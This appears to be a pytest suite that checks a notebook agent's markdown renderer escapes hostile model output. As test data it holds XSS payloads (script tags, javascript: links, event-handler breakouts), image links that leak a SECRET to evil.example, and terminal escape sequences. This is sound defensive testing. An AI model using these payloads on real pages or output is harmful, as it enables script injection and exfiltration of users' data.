"""Safe rendering: nothing a model writes can load, run or break out (X01, X02, X03, D14, F8)."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notebook_agent.notebook import render
from notebook_agent.notebook.render import ATTRIBUTES, TAGS, image_text, render_block, render_text


class Check(HTMLParser):
    """Fails on anything outside the allow-list."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
            if name == "href":
                assert re.match(r"(https?:|mailto:)", value), value

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_comment
    handle_pi = handle_comment


def checked(text: str) -> str:
    made = render_block(text)
    Check().feed(made)
    return made


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/p.png?q=SECRET)", "https://evil.example/p.png?q=SECRET"),
        ("![x][r]\n\n[r]: https://evil.example/a", "https://evil.example/a"),
        ("<img src=https://evil.example/b>", "&lt;img src=https://evil.example/b&gt;"),
        ('<p style="background: url(https://e.example)">', "&lt;p style="),
        ("<svg><image href=https://e.example/></svg>", "&lt;svg&gt;"),
        ("![a](data:image/png;base64,AAAABBBB)", "[image, image/png, 6 bytes]"),
        ("![a](data:image/svg+xml,%3Csvg%3E)", "[image, image/svg+xml, 9 bytes]"),
        (
            "[![x](https://i.example/x.png)](https://l.example)",
            "[image: x, https://i.example/x.png]",
        ),
    ],
)
def test_X01_images_are_their_address(text: str, shown: str) -> None:
    made = checked(text)
    assert "<img" not in made
    assert shown in made


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "[t](JaVaScRiPt:alert(1))",
        "[t](java\nscript:alert(1))",
        "[t](&#106;avascript:alert(1))",
        "[t](data:text/html,<script>alert(1)</script>)",
        "[t](vbscript:x)",
        "<javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "</div></div><h1>out",
        "```html\n<script>alert(1)</script>\n```",
        "[x]: javascript:alert(1)\n\n[x]",
        '[a](https://a.example" onclick="alert(1))',
        "| <b onclick=x> |\n|---|\n| </table><script> |",
        "`</code><script>`",
        "&lt;script&gt;",
        '<https://a.example/"onmouseover=alert(1)>',
    ],
)
def test_X02_html_is_text(text: str) -> None:
    made = checked(text)
    assert "<script" not in made
    assert "<iframe" not in made


def test_X02_links_carry_rel() -> None:
    made = checked('[ok](https://a.example/?a=1&b=2 "title")')
    assert 'href="https://a.example/?a=1&amp;b=2"' in made
    assert 'rel="noopener noreferrer nofollow"' in made
    assert "title" not in made


def test_X03_control_characters_are_visible() -> None:
    made = checked("a\x1b]52;c;eA==\x07 b\r c\x08 d\x9b31m e\u202ef")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", made)
    for picture in ("␛]52;c;eA==␇", "␍", "␈", "&lt;U+009B&gt;31m", "&lt;U+202E&gt;"):
        assert picture in made


@given(st.text(alphabet="<>&\"'`[]()!*_~#|\\/ :=;ajvscripthef.\n\x1b\u202e", max_size=300))
def test_X02_any_text_stays_inside_the_allow_list(text: str) -> None:
    checked(text)


def test_markdown_that_people_expect() -> None:
    assert checked("# a\n\n**b** *c* ~~d~~ `e`") == (
        "<h3>a</h3>\n<p><strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>"
    )
    assert '<ol start="3">' in checked("3. x")
    assert '<th align="right">' in checked("| a |\n|--:|\n| 1 |")
    assert checked("$x^2$") == "<p>$x^2$</p>"  # maths is off


def test_without_nh3_the_text_is_escaped(monkeypatch) -> None:
    monkeypatch.setattr(render, "nh3", None)
    assert render_block("<b>**x**</b>") == "<pre>&lt;b&gt;**x**&lt;/b&gt;</pre>"


def test_image_text_sizes() -> None:
    assert image_text("data:,hello") == "[image, unknown type, 5 bytes]"
    assert image_text("data:image/png;base64," + "A" * 4_000_000) == "[image, image/png, 3.0 MB]"
    assert image_text("https://a.example") == "[image: https://a.example]"


def test_rendering_is_linear_in_hostile_text() -> None:
    """Eight times the text costs about eight times as much, never sixty-four times."""

    def cost(text: str) -> float:
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            render_text(text)
            best = min(best, time.process_time() - start)
        return best

    for unit in ("[", "![", "*a ", "**x_", "[a](", "[x][", ">", "`a``b", "<a ", "&", "|a", "- "):
        small, large = (cost(unit * (size // len(unit))) for size in (8_000, 64_000))
        assert large < 24 * small + 0.2, (unit, small, large)


def test_five_megabytes_in_one_line() -> None:
    """All of it, in one piece: nothing is cut, doubled or taken for markup."""
    made = render_text("x" * 5_000_000)
    assert made.count("x") == 5_000_000
    assert len(made) < 5_001_000


@given(
    st.text(
        alphabet=st.one_of(
            st.sampled_from(" abcXYZ019.,:;'\"()-+=?/%$@^{}éß中🦉\u00a0\u2028\u200b\u3000\u2003\x85\x0c"),
            st.characters(exclude_categories=["Cs"]),
        ),
        min_size=1, max_size=60,
    )
)  # fmt: skip
def test_the_short_way_of_plain_words_makes_what_the_long_way_makes(text: str) -> None:
    """A paragraph without any mark is not parsed; nothing shows that."""
    for words in (text, f"word {text}", f"Word. {text} \n\n", f"w{text}.\n"):
        short = render.render_block(words)
        pattern, render._WORDS = render._WORDS, re.compile(r"(?!)")
        try:
            long = render.render_block(words)
        finally:
            render._WORDS = pattern
        assert short == long, (words, short, long)
